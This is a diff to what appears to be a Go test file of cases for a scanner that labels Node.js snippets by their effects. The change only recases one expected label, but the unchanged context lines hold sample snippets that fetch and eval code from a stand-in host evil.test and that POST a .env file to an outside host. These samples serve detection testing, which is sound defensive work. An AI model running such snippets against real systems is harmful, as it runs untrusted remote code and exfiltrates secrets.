@@ -81,7 +81,7 @@ func nodeCases() []scanCase {
 		{`fetch("http://example.test/").then(r => r.text()).then(console.log)`, `net.fetch http://example.test/`},
 		{`fetch("http://evil.test/x.js").then(r=>r.text()).then(t=>eval(t))`, `exec.remote (downloaded); net.fetch http://evil.test/x.js; node 2: <a response>; ?`},
 		{`fetch("https://api.test/x",{method:"POST",body:require('fs').readFileSync('.env')})`, `fs.read .env; net.send https://api.test/x <- .env`},
-		{`fetch("https://api.test/x",{method:"DELETE"})`, `remote.destroy https://api.test/x (DELETE request)`},
+		{`fetch("https://api.test/x",{method:"DELETE"})`, `remote.destroy https://api.test/x (delete request)`},
 		{`require('http').get('http://a.test/', res => { res.on('data', d => process.stdout.write(d)) })`, `net.fetch http://a.test/`},
 		{`require('http').createServer((q,s)=>s.end('x')).listen(8080)`, `net.listen 8080`},
 		{`process['env']; global['pro'+'cess'].exit(0)`, `pure`},
